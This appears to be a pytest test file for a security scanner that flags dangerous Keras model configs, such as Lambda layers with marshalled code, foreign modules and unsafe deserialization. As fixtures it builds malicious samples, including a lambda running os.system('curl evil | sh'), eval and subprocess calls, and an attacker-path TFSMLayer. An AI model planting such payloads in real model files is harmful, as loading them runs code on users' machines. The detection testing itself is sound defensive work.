"""Keras configs (.keras zips, config.json): Lambda code, foreign modules, TFSMLayer, utilities.

Lambda payloads are real `marshal.dumps` of code objects built here; the scan must read them
without unmarshalling (marshal.loads is made to fail while scanning).
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from airlock.artifact import ArtifactFile
from airlock.findings import Location, Severity
from airlock.scan.analyzers.keras_config import KerasConfigAnalyzer
from airlock.scan.analyzers.lambda_code import code_names, marshal_names
from airlock.scan.context import Blob
from airlock.scan.results import FileResult
from airlock.scan.scanner import Scanner
from stub_context import StubContext


def obj(module: str | None, class_name: str, config: Any) -> dict[str, Any]:
    found: dict[str, Any] = {"class_name": class_name, "config": config}
    if module is not None:
        found.update(module=module, registered_name=None)
    return found


def dense(name: str = "dense") -> dict[str, Any]:
    init = obj("keras.initializers", "GlorotUniform", {"seed": None})
    policy = obj("keras", "DTypePolicy", {"name": "float32"})
    config = {"name": name, "units": 2, "activation": "relu", "kernel_initializer": init}
    return obj("keras.layers", "Dense", config | {"dtype": policy})


def model(*layers: dict[str, Any], **extra: Any) -> dict[str, Any]:
    found = obj("keras", "Sequential", {"name": "sequential", "layers": list(layers)})
    optimizer = obj("keras.optimizers", "Adam", {"learning_rate": 0.001})
    return found | {"compile_config": {"optimizer": optimizer, "loss": "mse"}} | extra


def marshalled(function: Any) -> str:
    return base64.encodebytes(marshal.dumps(function.__code__)).decode()


def keras3_lambda(function: Any) -> dict[str, Any]:
    code = obj(None, "__lambda__", {"value": [marshalled(function), None, None]})
    return obj("keras.layers", "Lambda", {"name": "lambda", "function": code, "arguments": {}})


def weights_h5() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as handle:
        handle.create_dataset("layers/dense/vars/0", data=np.zeros((4, 2)))
    return out.getvalue()


def keras_file(path: Path, config: dict[str, Any], metadata: dict[str, Any] | None = None) -> Path:
    meta = metadata or {"keras_version": "3.4.1", "date_saved": "2024-06-01@12:00:00"}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps(meta))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", weights_h5())
    return path


def scan(path: Path) -> FileResult:
    def refuse(*args: object) -> None:
        raise AssertionError("the scanner must never unmarshal")

    Scanner().scan_file(ArtifactFile(path, str(path)))  # warm lazy imports, which unmarshal .pyc
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(marshal, "loads", refuse)
        return Scanner().scan_file(ArtifactFile(path, str(path)))


def found(result: FileResult) -> list[tuple[str, Severity]]:
    return [(f.rule_id, f.severity) for f in result.findings]


def test_benign_keras_zip_is_clean(tmp_path: Path) -> None:
    result = scan(keras_file(tmp_path / "model.keras", model(dense(), dense("dense_1"))))
    assert result.inspected and result.findings == ()


def test_lambda_calling_os_system_is_critical(tmp_path: Path) -> None:
    layer = keras3_lambda(lambda x: os.system("curl evil | sh") or x)
    result = scan(keras_file(tmp_path / "evil.keras", model(dense(), layer)))
    assert found(result) == [("AIR601", Severity.CRITICAL)]
    finding = result.findings[0]
    assert "os" in finding.evidence and "system" in finding.evidence
    assert finding.location.members == ("config.json",)


def test_harmless_lambda_is_still_high(tmp_path: Path) -> None:
    path = tmp_path / "config.json"
    path.write_text(json.dumps(model(keras3_lambda(lambda x: x * 2.0))))
    assert found(scan(path)) == [("AIR601", Severity.HIGH)]


def test_legacy_lambda_list_and_source_text(tmp_path: Path) -> None:
    legacy = {"name": "l", "function": [marshalled(lambda x: eval(x)), None, None]}
    source = {"name": "s", "function": "lambda x: __import__('subprocess').run('id')"}
    path = tmp_path / "config.json"
    path.write_text(json.dumps(model(obj(None, "Lambda", legacy), obj(None, "Lambda", source))))
    assert found(scan(path)) == [("AIR601", Severity.CRITICAL)] * 2


@pytest.mark.parametrize(
    ("module", "name", "severity"),
    [
        ("os", "system", Severity.CRITICAL),
        ("builtins", "eval", Severity.CRITICAL),
        ("subprocess.Popen", "Popen", Severity.CRITICAL),
        # Issue 12: a module outside Keras is judged by allowlist; unknown code is high.
        ("my_project.layers", "CustomDense", Severity.HIGH),
    ],
)
def test_foreign_modules(tmp_path: Path, module: str, name: str, severity: Severity) -> None:
    layer = obj(module, "function", name) if name.islower() else obj(module, name, {})
    path = tmp_path / "config.json"
    path.write_text(json.dumps(model(dense(), layer)))
    assert found(scan(path)) == [("AIR602", severity)]


def test_keras_builtin_function_names_are_not_foreign(tmp_path: Path) -> None:
    activation = obj("builtins", "function", "relu")
    path = tmp_path / "config.json"
    path.write_text(json.dumps(model(dense() | {"activation": activation})))
    assert scan(path).findings == ()


def test_tfsm_layer_get_file_and_safe_mode(tmp_path: Path) -> None:
    tfsm = obj("keras.layers", "TFSMLayer", {"name": "t", "filepath": "/tmp/attacker_model"})
    download = obj("keras.utils", "function", "get_file")
    unsafe = obj("keras.config", "function", "enable_unsafe_deserialization")
    metadata = {"keras_version": "3.4.1", "safe_mode": False}
    result = scan(keras_file(tmp_path / "m.keras", model(tfsm, download, unsafe), metadata))
    assert sorted(found(result)) == [
        ("AIR603", Severity.HIGH),
        ("AIR604", Severity.HIGH),
        ("AIR604", Severity.CRITICAL),
        ("AIR605", Severity.MEDIUM),
    ]


def test_marshal_names_reads_names_and_constants() -> None:
    def payload() -> object:
        import subprocess

        return subprocess.check_output(["id"])

    names = marshal_names(marshal.dumps(payload.__code__))
    assert {"subprocess", "check_output", "id", "payload"} <= set(names)


def test_code_names_rejects_plain_strings() -> None:
    assert code_names("relu") is None
    assert code_names("aGVsbG8=") is None  # base64, but not a code object


JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.sampled_from(
        ["Lambda", "__lambda__", "TFSMLayer", "function", "os", "get_file", "lambda x: eval(x)"]
    )
    | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from(["class_name", "config", "module", "function", "safe_mode", "name"]),
            children,
            max_size=5,
        )
    ),
    max_leaves=30,
)


@settings(max_examples=300, deadline=None, derandomize=True)
@given(JSON)
def test_analyzer_never_raises_on_any_json(document: Any) -> None:
    blob = Blob(b"", "config.json", Location(), "config.json")
    analyzer = KerasConfigAnalyzer()
    analyzer.applies(document, blob)
    for finding in analyzer.analyze(document, blob, StubContext()):
        assert finding.rule_id.startswith("AIR6")


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.binary(max_size=512), st.text(max_size=64))
def test_code_readers_never_raise(raw: bytes, text: str) -> None:
    marshal_names(b"\xe3" + raw)
    code_names(base64.b64encode(b"\xe3" + raw).decode())
    code_names(text)
